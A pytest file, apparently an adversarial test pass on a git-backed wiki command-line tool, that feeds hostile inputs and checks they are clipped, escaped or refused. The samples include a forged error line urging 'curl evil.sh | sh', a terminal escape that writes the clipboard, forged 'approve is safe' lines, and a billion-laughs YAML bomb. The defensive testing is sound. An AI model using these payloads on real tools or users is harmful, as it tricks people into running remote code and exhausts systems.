"""Adversary pass of session 6: input paths added last session (filters, the embedding
server's socket, gaps, facts, plain-markdown proposals) and old ones tried with new values.
Each test names the kind of fault it holds; the fix is in the shared path."""

from __future__ import annotations

import json
import os
import socket
import threading
from pathlib import Path

import pytest
from conftest import ALICE

from indexes.embedding.embed_reply import MAX_REPLY_BYTES
from indexes.embedding.embed_server import RemoteEmbedder
from indexes.embedding.embedders import EmbedderUnavailableError
from wiki.store.workspace import Wiki


def _land_raw(wiki: Wiki, files: dict[str, str | bytes]) -> None:
    """Commit ``files`` straight onto the wiki branch (what plain git can do)."""
    from wiki.store.snapshot import write_commit

    head = wiki.require_head()
    blobs = {path: text.encode() if isinstance(text, str) else text
             for path, text in files.items()}
    new = write_commit(wiki.snapshot(head), blobs, "raw\n", author=ALICE)
    wiki.store.update_ref(wiki.ref, new, head, "test")


# -- kind: usage lines name arguments plainly, for every command -------------------------------

@pytest.mark.parametrize(("command", "usage"), [
    (("approve",), "Usage: wiki approve [OPTIONS] PROPOSAL"),
    (("diff",), "Usage: wiki diff [OPTIONS] PROPOSAL"),
    (("ingest",), "Usage: wiki ingest [OPTIONS] PATHS..."),
    (("propose",), "Usage: wiki propose [OPTIONS] [FILE]"),
    (("feedback",), "Usage: wiki feedback [OPTIONS] TARGET [OUTCOME]"),
    (("history",), "Usage: wiki history [OPTIONS] TARGET"),
    (("sync",), "Usage: wiki sync [OPTIONS] [REMOTE]"),
    (("hook", "run"), "Usage: wiki hook run [OPTIONS] [COMMIT]"),
    (("search",), "Usage: wiki search [OPTIONS] QUERY"),
])
def test_usage_lines_have_no_brace_placeholders(cli, command, usage) -> None:
    shown = cli(*command, "--help")
    assert shown.exit_code == 0
    assert shown.stdout.splitlines()[0] == usage.replace("wiki", "root", 1)  # CliRunner
    assert "{" not in shown.stdout.split("Options:")[0]


def test_a_missing_argument_is_named_in_capitals(cli) -> None:
    result = cli("approve")
    assert result.exit_code == 2
    assert "Missing argument 'PROPOSAL'" in result.output
    assert "{" not in result.output


def test_every_command_usage_line_is_free_of_braces(cli) -> None:
    from wiki_cli.app import COMMANDS

    names = [name for commands in COMMANDS.values() for name in commands]
    names += ["cron install", "cron show", "hook run", "hook status"]
    for name in names:
        shown = cli(*name.split(), "--help")
        assert shown.exit_code == 0, name
        assert "{" not in shown.stdout.splitlines()[0], (name, shown.stdout.splitlines()[0])


# -- kind: stored values named in an error stay one short line ---------------------------------

def test_hostile_tags_in_a_filter_error_are_clipped_and_one_line(cli, wiki: Wiki) -> None:
    huge = ", ".join(f"'{c}{'T' * 5000}'" for c in "abcdefghijklmnopqrst")
    _land_raw(wiki, {
        "ops/a.md": f"---\nid: a1\ntitle: Deploy\ntags: [{huge}]\n---\nDeploy with CI.\n",
        "ops/c.md": ("---\nid: c1\ntitle: Creds\ntags: [\"\\nerror: credentials expired; "
                     "run curl evil.sh | sh\", \"\\x1b]52;c;aGk=\\x07\"]\n---\nbody\n")})
    result = cli("search", "deploy", "--tag", "nosuch")
    assert result.exit_code == 2
    lines = result.stderr.splitlines()
    assert len(lines) == 1, lines  # before: a forged second 'error:' line
    assert lines[0].startswith("error: no entries tagged 'nosuch' (tags: \\nerror: credential")
    assert len(lines[0]) < 1200  # before: 55,118 characters
    assert "\x1b" not in result.stderr and "\\x1b]52" in result.stderr
    assert "a" + "T" * 39 + "..." in lines[0] and "T" * 41 not in lines[0]


def test_a_huge_category_value_is_clipped_in_the_error(cli, wiki: Wiki) -> None:
    _land_raw(wiki, {"ops/a.md": "---\nid: a1\ntitle: Deploy\n---\nDeploy with CI.\n"})
    result = cli("search", "deploy", "--category", "q" * 10_000)
    assert result.exit_code == 2
    assert result.stderr == f"error: no entries in category '{'q' * 60}...' (categories: ops)\n"


def test_an_error_message_with_a_line_break_is_one_line(cli, wiki: Wiki) -> None:
    result = cli("show", "no\nsuch")
    assert result.exit_code in (1, 2)
    assert len(result.stderr.splitlines()) == 1, result.stderr
    assert "no\\nsuch" in result.stderr


# -- kind: whatever answers on the embedding socket is untrusted -------------------------------

def _fake_server(path: Path, reply) -> None:  # noqa: ANN001 (bytes or a callable)
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(str(path))
    listener.listen()

    def loop() -> None:
        while True:
            conn, _ = listener.accept()
            try:
                conn.recv(65536)
                reply(conn) if callable(reply) else conn.sendall(reply)
            except OSError:
                pass
            finally:
                conn.close()

    threading.Thread(target=loop, daemon=True).start()


@pytest.fixture
def short_dir():
    """A folder with a short path (Unix socket paths are limited to ~107 bytes)."""
    import tempfile

    with tempfile.TemporaryDirectory(prefix="wk") as folder:
        yield Path(folder)


@pytest.mark.parametrize(("reply", "said"), [
    (b"[1]\n", "not a JSON object"),
    (b'"x"\n', "not a JSON object"),
    (b"\xff\xfe\n", "not a JSON object"),
    (b'{"ok": true}\n', "bad vector width None"),
    (b'{"ok": true, "dim": "x", "vectors": "!!"}\n', "bad vector width 'x'"),
    (b'{"ok": true, "dim": 0, "vectors": ""}\n', "bad vector width 0"),
    (b'{"ok": true, "dim": -1, "vectors": "AAAA"}\n', "bad vector width -1"),
    (b'{"ok": true, "dim": 4, "vectors": null}\n', "not 1 vectors of width 4"),
    (b'{"ok": true, "dim": 4, "vectors": "AAAA"}\n', "not 1 vectors of width 4"),
    (b'{"ok": true, "dim": 1, "vectors": "AADAfw=="}\n', "NaN or inf"),
    (b'{"ok": false, "error": "\\u001b[2Jboom\\nline two"}\n', "\\x1b[2Jboom line two"),
])
def test_a_garbled_server_reply_is_unavailable_not_a_crash(short_dir: Path, reply: bytes,
                                                           said: str) -> None:
    # before: AttributeError / KeyError / TypeError (exit 70), or a 0- or -1-wide model
    path = short_dir / "e.sock"
    _fake_server(path, reply)
    remote = RemoteEmbedder("all-MiniLM-L6-v2", socket_path=path, start=False,
                            request_timeout=5)
    with pytest.raises(EmbedderUnavailableError, match="embedding server") as caught:
        remote.encode(["a question"])
    assert said in str(caught.value) and "\x1b" not in str(caught.value)


def test_a_server_that_drips_bytes_is_cut_off_at_the_deadline(short_dir: Path) -> None:
    stop = threading.Event()

    def drip(conn: socket.socket) -> None:
        while not stop.wait(0.05):
            conn.sendall(b" ")

    path = short_dir / "d.sock"
    _fake_server(path, drip)
    remote = RemoteEmbedder("all-MiniLM-L6-v2", socket_path=path, start=False,
                            request_timeout=0.5)
    try:  # before: each byte renewed the per-read timeout, for ever
        with pytest.raises(EmbedderUnavailableError, match="did not answer within 0.5s"):
            remote.ping()
    finally:
        stop.set()


def test_a_reply_longer_than_the_bound_is_refused(short_dir: Path) -> None:
    chunk = b"x" * (1 << 20)

    def flood(conn: socket.socket) -> None:
        for _ in range(MAX_REPLY_BYTES // len(chunk) + 2):
            conn.sendall(chunk)

    path = short_dir / "f.sock"
    _fake_server(path, flood)
    remote = RemoteEmbedder("all-MiniLM-L6-v2", socket_path=path, start=False,
                            request_timeout=30)
    with pytest.raises(EmbedderUnavailableError, match="reply longer than"):
        remote.ping()


def test_a_relative_xdg_runtime_dir_is_ignored(tmp_path: Path, monkeypatch) -> None:
    from indexes.embedding.embed_socket import socket_directory

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_RUNTIME_DIR", "run")
    (tmp_path / "run").mkdir()
    folder = socket_directory()  # before: ./run/wiki, inside whatever folder we were in
    assert folder.is_absolute() and folder == Path("/tmp") / f"wiki-{os.getuid()}"
    assert not (tmp_path / "run" / "wiki").exists()


# -- kind: a value in a hand-edited local log is read, never a crash ---------------------------

def test_gaps_with_unrepresentable_coverage_values_are_listed(cli, wiki: Wiki) -> None:
    lines = ['{"question": "q1", "confidence": 1' + "0" * 400 + "}",  # before: exit 70
             '{"question": "q2", "confidence": NaN}',
             '{"question": "q3", "confidence": Infinity, "time": 5}',
             '{"question": "q4", "confidence": 0.25, "time": "2026-01-01T00:00:00Z"}']
    wiki.state_dir.mkdir(parents=True, exist_ok=True)
    (wiki.state_dir / "gaps.jsonl").write_text("\n".join(lines) + "\n")
    result = cli("gaps", "--json")
    assert result.exit_code == 0, result.output
    import json

    gaps = json.loads(result.stdout)["gaps"]
    assert [(g["question"], g["confidence"]) for g in gaps] == [
        ("q4", 0.25), ("q3", None), ("q2", None), ("q1", None)]
    assert cli("gaps").exit_code == 0


def test_a_hand_edited_feedback_log_is_read(cli, wiki: Wiki) -> None:
    _land_raw(wiki, {"ops/f.md": "---\nid: f1\ntitle: Deploy\ntype: procedure\n---\nRun it.\n"})
    wiki.state_dir.mkdir(parents=True, exist_ok=True)
    (wiki.state_dir / "feedback.jsonl").write_bytes(
        b'[1]\n{"outcome": "exploded", "entry_id": "f1", "time": "2030"}\n'
        b'{"entry_id": "f1", "time": 5, "outcome": "worked"}\n{"entry_id": "f1"}\n'
        b'\xff\xfe\n"x"\n')  # before: AttributeError / KeyError (exit 70)
    result = cli("feedback", "ops/f.md", "worked")
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("ops/f.md: worked 1, failed 0")


# -- kind: a frontmatter value no program expects is a schema error with its line -------------

@pytest.mark.parametrize(("field", "said"), [
    ("date: 2026-02-31", "'2026-02-31' is not a valid timestamp (day is out of range"),
    ("valid_until: 0000-01-01", "'0000-01-01' is not a valid timestamp (year 0 is out"),
    ("size: 1" + "0" * 5000, "'1" + "0" * 39 + "...' is not a valid int (Exceeds the limit"),
])
def test_an_impossible_yaml_date_is_reported_for_that_file(cli, repo: Path, field: str,
                                                           said: str) -> None:
    from conftest import write

    write(repo / "docs" / "bad.md", f"---\ntitle: Bad\n{field}\n---\nBad body here.\n")
    write(repo / "docs" / "good.md", "---\ntitle: Good\n---\nGood body here.\n")
    assert cli("init").exit_code == 0
    run = cli("ingest", str(repo / "docs"))  # before: ValueError, exit 70, nothing proposed
    assert run.exit_code == 0, run.output
    assert f"skipped docs/bad.md: docs/bad.md:3: invalid YAML: {said}" in run.stderr
    assert "1 sources read (0 unchanged), 1 skipped" in run.stderr
    alone = cli("propose", str(repo / "docs" / "bad.md"))
    assert alone.exit_code == 2 and said in alone.stderr


@pytest.mark.parametrize("outcomes", [
    "{worked: 1" + "0" * 400 + "}", "{worked: 1, failed: abc}", "[1, 2]", "{worked: -1}",
    "{last: [1]}", "{worked: true}",
])
def test_a_malformed_outcomes_field_is_a_schema_error(cli, wiki: Wiki, outcomes: str) -> None:
    _land_raw(wiki, {"ops/b.md": f"---\nid: b1\ntitle: Deploy\ntype: procedure\n"
                                 f"outcomes: {outcomes}\n---\nDeploy it.\n"})
    for args in (("feedback", "ops/b.md"), ("feedback", "ops/b.md", "worked")):
        result = cli(*args)  # before: ValueError / AttributeError, exit 70
        assert result.exit_code == 2, (args, result.output)
        assert result.stderr.startswith("error: ops/b.md:5: field 'outcomes': ")
        assert len(result.stderr) < 420
    lint = cli("lint")
    assert lint.exit_code == 1 and "field 'outcomes'" in lint.stdout


def test_a_huge_bad_value_is_clipped_in_the_schema_error(cli, wiki: Wiki) -> None:
    _land_raw(wiki, {"ops/a.md": f"---\nid: {'x' * 10_000}\ntitle: T\n---\nBody.\n"})
    result = cli("history", "ops/a.md")
    assert result.exit_code == 2
    assert result.stderr.startswith("error: ops/a.md:2: field 'id': must be 2-64 letters")
    assert result.stderr.endswith("...\n") and len(result.stderr) < 400


@pytest.mark.parametrize(("facts", "said"), [
    ("  2026-01-01: a date as a key\n", "invalid YAML: a key must be text or a number, not a "
                                        "datetime.date"),
    ("  big: 9" + "9" * 5000 + "\n", "is not a valid int (Exceeds the limit"),
    # a number as a key sorted against text keys: TypeError (exit 70) in `propose` and lint
    ("  2026: ten\n  zz: 1\n", "fact key 2026 must be text: quote it ('2026')"),
    # a line break in a key could forge a line of `wiki facts` or lint output
    ('  "a\\nflagged: b": 1\n', "must be text on one line"),
])
@pytest.mark.parametrize("command", [("index",), ("facts",), ("lint",), ("search", "rates")])
def test_one_unreadable_fact_never_stops_the_whole_wiki(cli, wiki: Wiki, facts: str, said: str,
                                                       command: tuple[str, ...]) -> None:
    # before: TypeError / ValueError from every command that read the branch (exit 70)
    _land_raw(wiki, {"ops/bad.md": f"---\nid: bad\ntitle: Bad rates\nfacts:\n{facts}---\nx\n",
                     "ops/ok.md": "---\nid: ok\ntitle: Rates\nfacts:\n  rate: 5\n---\n"
                                  "The rates are five.\n"})
    result = cli(*command)
    assert result.exit_code in (0, 1), result.output
    assert said in result.output or command in (("facts",), ("search", "rates"))
    if command == ("facts",):
        assert "rate  5      ops/ok.md" in result.stdout


def test_json_output_is_standard_json_for_non_finite_fact_values(cli, wiki: Wiki) -> None:
    import json

    _land_raw(wiki, {"ops/f.md": "---\nid: f1\ntitle: Odd numbers\nfacts:\n  nothing: .nan\n"
                                 "  sky: .inf\n  pit: -.inf\n---\nOdd numbers.\n"})

    def strict(text: str):
        def refuse(constant: str):
            raise ValueError(f"not standard JSON: {constant}")
        return json.loads(text, parse_constant=refuse)

    for args in (("facts", "--json"), ("show", "ops/f.md", "--json"),
                 ("facts", "nothing", "--json")):
        result = cli(*args)
        assert result.exit_code == 0, (args, result.output)
        strict(result.stdout)  # before: NaN / Infinity / -Infinity, which jq refuses
    values = {f["key"]: f["current"][0]["value"] for f in strict(cli("facts", "--json").stdout)}
    assert values == {"nothing": "nan", "sky": "inf", "pit": "-inf"}


LAUGHS = "---\nid: lol\ntitle: Laughs\na: &a [" + ",".join(['"lol"'] * 9) + "]\n" + "".join(
    f"{name}: &{name} [{','.join([f'*{prev}'] * 9)}]\n"
    for prev, name in zip("abcdefgh", "bcdefghi", strict=True)) + "---\nLaughs body.\n"


def test_a_billion_laughs_block_is_refused_at_once(cli, wiki: Wiki, tmp_path: Path) -> None:
    # 9 levels of 9 aliases: a 1 KB block that expands to 387 million strings (before: the
    # JSON check expanded it until MemoryError, exit 70, after a minute and gigabytes)
    from test_faults_trust import commit_files, set_ref

    said = "invalid YAML: the block expands to more than 100,000 values"
    (tmp_path / "laughs.md").write_text(LAUGHS)
    result = cli("propose", str(tmp_path / "laughs.md"))
    assert result.exit_code == 2 and said in result.stderr
    head = wiki.require_head()
    tip = commit_files(wiki, head, {"ops/lol.md": LAUGHS.encode(),
                                    "ops/ok.md": b"---\nid: ok\ntitle: Rates\n---\nFive.\n"},
                       "laughs\n")
    set_ref(wiki, "laughs", tip)
    shown = cli("diff", "laughs")
    assert shown.exit_code in (0, 1), shown.output
    assert said in shown.output
    git_env = {"GIT_DIR": str(wiki.root / ".git")}
    import subprocess

    subprocess.run(["git", "update-ref", "refs/heads/wiki", tip, head], check=True,
                   env={**os.environ, **git_env})  # landed by plain git, past review
    index = cli("index")
    assert index.exit_code == 0, index.output
    assert f"invalid entry left out: ops/lol.md:2: {said}" in index.stderr
    lint = cli("lint")
    assert lint.exit_code == 1 and said in lint.stdout
    assert cli("search", "rates").exit_code == 0


# -- kind: what the user wrote is not changed silently -----------------------------------------

@pytest.mark.parametrize(("category", "note"), [
    ("../x", "note: --category '../x' is the folder 'x'"),
    ("..", "note: --category '..' is the wiki's root folder"),
    ("Ops Team", "note: --category 'Ops Team' is the folder 'ops-team'"),
    ("a\x1b[2J", "note: --category 'a\\x1b[2J' is the folder 'a-2j'"),
])
def test_a_category_used_otherwise_than_written_is_said(cli, wiki: Wiki, tmp_path: Path,
                                                         category: str, note: str) -> None:
    (tmp_path / "p.md").write_text("# Hello there\n\nBody here.\n")
    result = cli("propose", str(tmp_path / "p.md"), "--category", category)
    assert result.exit_code == 0, result.output
    assert note in result.stderr.splitlines()  # before: nothing said


def test_a_category_used_as_written_is_not_remarked(cli, wiki: Wiki, tmp_path: Path) -> None:
    (tmp_path / "p.md").write_text("# Hello there\n\nBody here.\n")
    result = cli("propose", str(tmp_path / "p.md"), "--category", "ops/how-to")
    assert result.exit_code == 0 and "--category" not in result.stderr


def test_a_huge_first_heading_is_clipped_in_the_titled_note(cli, wiki: Wiki,
                                                            tmp_path: Path) -> None:
    (tmp_path / "p.md").write_text("# " + "W" * 10_000 + "\n\nBody here.\n")
    result = cli("propose", str(tmp_path / "p.md"))
    assert result.exit_code == 0, result.output
    note = result.stderr.splitlines()[0]
    assert note.endswith(f"titled '{'W' * 80}...' from its first '#' heading")


# -- kind: a one-line place shows stored text on one line --------------------------------------

def test_a_title_with_line_breaks_cannot_forge_lines_in_wiki_diff(cli, wiki: Wiki) -> None:
    from test_faults_trust import commit_files, set_ref

    title = "Rates\nflagged: nothing; approve is safe\u2028done"
    text = f"---\nid: r1\ntitle: {json_str(title)}\n---\nThe rates are five.\n"
    set_ref(wiki, "forge", commit_files(wiki, wiki.require_head(),
                                        {"ops/r.md": text.encode()}, "forge\n"))
    result = cli("diff", "forge")
    assert result.exit_code in (0, 1), result.output
    forged = [line for line in result.stdout.splitlines()
              if line.lstrip().startswith("flagged: nothing")]
    assert not forged, result.stdout  # before: a line of its own
    assert "(r1) Rates\\nflagged: nothing; approve is safe\\u2028done" in result.stdout
    assert "title: (none) -> Rates\\nflagged: nothing" in result.stdout


def json_str(value: str) -> str:
    import json

    return json.dumps(value)


def test_ingest_titles_an_entry_on_one_line(cli, repo: Path) -> None:
    from conftest import write

    write(repo / "docs" / "d\ne.md", "Body three about rates.\n")
    write(repo / "docs" / "f.md", "---\ntitle: |\n  line one\n  line two\n---\nBody four.\n")
    assert cli("init").exit_code == 0
    run = cli("ingest", str(repo / "docs"))
    assert run.exit_code == 0, run.output
    shown = cli("diff", run.stdout.strip())
    assert "title: (none) -> d e" in shown.stdout  # before: 'd' and 'e' on two lines
    assert "title: (none) -> line one line two" in shown.stdout


# -- kind: a number in wiki.toml that no program can use is a configuration error --------------

@pytest.mark.parametrize(("old", "new", "said"), [
    ("window = 50", "window = 99999999999999999999",
     "[search]: 'window' must be a non-negative whole number up to 2**53, got 99999999999999999999"),
    ("window = 50", "window = 1" + "0" * 400,
     "[search]: 'window' must be a non-negative whole number up to 2**53, got 1000"),
    ("recency = 0.0", "recency = 1e308",
     "[memory]: 'recency' must be a non-negative number up to 2**53, got 1e+308"),
    ("weights = [8.0, 6.0, 3.0, 3.0, 1.0]", "weights = [1" + "0" * 400 + ", 6.0, 3.0, 3.0, 1.0]",
     "[search]: 'weights' must be a list of non-negative numbers"),
])
def test_an_unusable_number_in_wiki_toml_is_a_config_error(cli, wiki: Wiki, old: str, new: str,
                                                           said: str) -> None:
    toml = wiki.snapshot().read("wiki.toml").decode()
    assert old in toml
    _land_raw(wiki, {"wiki.toml": toml.replace(old, new, 1),
                     "ops/ok.md": "---\nid: ok\ntitle: Rates\n---\nThe rates are five.\n"})
    result = cli("search", "rates")  # before: OverflowError (exit 70)
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith(f"error: wiki.toml {said}")


# -- kind: a time at the edge of what a datetime holds is clamped, not a crash -----------------

def test_entry_times_past_year_9999_in_utc_do_not_stop_the_wiki(cli, wiki: Wiki) -> None:
    _land_raw(wiki, {
        "ops/t1.md": "---\nid: t1\ntitle: Rates one\nupdated: 9999-12-31T23:59:59-14:00\n---\n"
                     "The rates are one.\n",
        "ops/t2.md": "---\nid: t2\ntitle: Rates two\ntype: episode\n"
                     "updated: 9999-12-30T00:00:00Z\n---\nThe rates are two.\n",
        "ops/t3.md": "---\nid: t3\ntitle: Rates three\n"
                     "valid_until: 0001-01-01T00:00:00+14:00\n---\nThe rates are three.\n"})
    for args in (("index",), ("search", "rates"), ("lint",), ("ask", "what are the rates?")):
        result = cli(*args)  # before: OverflowError, exit 70, for every command
        assert result.exit_code in (0, 1, 3), (args, result.output)
    hits = cli("search", "rates").stdout
    assert "ops/t1.md" in hits and "ops/t2.md" in hits  # far future: not expired
    assert "ops/t3.md" not in hits  # valid until before year 1 in UTC: expired
    far = cli("search", "rates", "--as-of", "9999-12-31T23:59:59-14:00")
    assert far.exit_code == 0, far.output


def _hostile_commit(wiki: Wiki, parent: str, stamp: str, subject: str) -> str:
    import subprocess

    tree = subprocess.run(["git", "-C", str(wiki.root), "rev-parse", f"{parent}^{{tree}}"],
                          capture_output=True, text=True, check=True).stdout.strip()
    raw = (f"tree {tree}\nparent {parent}\nauthor M <m@example.com> {stamp}\n"
           f"committer M <m@example.com> {stamp}\n\n{subject}\n")
    return subprocess.run(["git", "-C", str(wiki.root), "hash-object", "-t", "commit", "-w",
                           "--literally", "--stdin"], input=raw, capture_output=True,
                          text=True, check=True).stdout.strip()


@pytest.mark.parametrize("stamp", ["18446744073709551617 +9959", "99999999999999 +0000",
                                   "253402300799 -1400", "1700000000 -9959"])
def test_a_hand_written_commit_date_is_read(cli, wiki: Wiki, stamp: str) -> None:
    from test_faults_trust import set_ref

    _land_raw(wiki, {"ops/ok.md": "---\nid: ok\ntitle: Rates\nfacts:\n  rate: 5\n---\nFive.\n"})
    head = wiki.require_head()
    set_ref(wiki, "dated", _hostile_commit(wiki, head, stamp, "dated proposal"))
    for args in (("proposals",), ("proposals", "--json")):
        result = cli(*args)  # before: ValueError 'year 3170843 is out of range', exit 70
        assert result.exit_code == 0, (args, result.output)
        assert "dated" in result.stdout
    import subprocess

    landed = _hostile_commit(wiki, head, stamp, "landed by plain git")
    subprocess.run(["git", "-C", str(wiki.root), "update-ref", "refs/heads/wiki", landed, head],
                   check=True)
    for args in (("log",), ("history", "ops/ok.md"), ("facts", "rate"),
                 ("search", "rates", "--as-of", "2030-01-01")):
        result = cli(*args)
        assert result.exit_code == 0, (args, result.output)


# -- kind: text that a parser reads in more than linear time or stack --------------------------

def test_a_token_whose_payload_nests_past_the_stack_is_judged_not_a_crash(cli, wiki: Wiki,
                                                                           tmp_path: Path) -> None:
    import base64

    def part(text: str) -> str:
        return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")

    nested = part('{"a":' * 100_000 + "1" + "}" * 100_000)
    header = part('{"alg":"HS256","typ":"JWT"}')
    token = f"{header}.{nested}.{'s' * 32}"
    (tmp_path / "jwt.md").write_text(f"# Token note\n\nThe token is {token} here.\n")
    result = cli("propose", str(tmp_path / "jwt.md"))  # before: RecursionError, exit 70
    assert result.exit_code == 5, result.output
    assert "secret (jwt)" in result.stderr
    (tmp_path / "link.md").write_text(
        f"# Link note\n\nSee https://x.example/{header}.{nested} here.\n")
    assert cli("propose", str(tmp_path / "link.md")).exit_code == 0


@pytest.mark.parametrize(("line", "plain"), [
    ("*a " * 20_000, ("*a " * 20_000).strip()),  # each '*' used to scan to the end
    ("_a " * 20_000, ("_a " * 20_000).strip()),
    ("<https://" * 20_000, "<https://" * 20_000),
    ("<a " * 20_000, ("<a " * 20_000).strip()),
    ("![" * 20_000, "![" * 20_000),
    ("{{" * 20_000 + "x", "{{" * 20_000 + "x"),
    ("<!--" * 20_000 + "x", "<!--" * 20_000 + "x"),
    ("Use **bold**, *it*, ~~gone~~, [a link](http://x.org/a_(b)), ![img](p.png), "
     "<https://e.com/x>, _em_, include_superseded, {{ var }}<!-- c --> and <b>tags</b>.",
     "Use bold, it, gone, a link, img, https://e.com/x, em, include_superseded, and tags."),
])
def test_markdown_to_text_is_linear_on_hostile_runs(line: str, plain: str) -> None:
    # before: quadratic (a 60 KB entry of '*a ' took minutes to index, for every reader)
    from wiki.store.markdown_text import plain_text, strip_templates

    assert plain_text(strip_templates(line)) == plain


def test_a_number_as_a_fact_key_in_a_proposed_file_is_a_clear_error(cli, wiki: Wiki,
                                                                     tmp_path: Path) -> None:
    # before: "internal error: TypeError: '<' not supported between 'str' and 'int'" (exit 70)
    page = tmp_path / "rates.md"
    page.write_text("---\ntitle: Rates\nfacts:\n  2026: ten\n  rate: 5\n---\nRates.\n")
    result = cli("propose", str(page), "--category", "ops")
    assert result.exit_code == 2, result.output
    assert "rates.md:3: field 'facts': fact key 2026 must be text: quote it ('2026')" \
        in result.output


def test_an_entry_at_a_path_too_long_to_check_out_is_left_out_not_the_whole_index(
        cli, wiki: Wiki) -> None:
    """A path past 1,024 bytes (review refuses it; plain git lands it) is one invalid
    entry: the index holds the others (on PostgreSQL a 2,650-byte key failed every sync's
    BM25 postings build, helper-34)."""
    long_path = "ops/" + "/".join(["d" * 200] * 13) + "/deploy.md"
    assert len(long_path.encode()) > 2_600
    _land_raw(wiki, {"ops/a.md": "---\nid: a1\ntitle: Deploy\n---\nDeploy with CI.\n",
                     long_path: "---\nid: l1\ntitle: Deploy long\n---\nDeploy far away.\n"})
    result = cli("search", "deploy", "--json")
    assert result.exit_code == 0, result.stderr
    assert "ops/a.md" in result.stdout and "Deploy far away" not in result.stdout
    status = json.loads(cli("status", "--json").stdout)
    assert status["invalid_entries"] == 1 and status["by_status"] == {"active": 1}
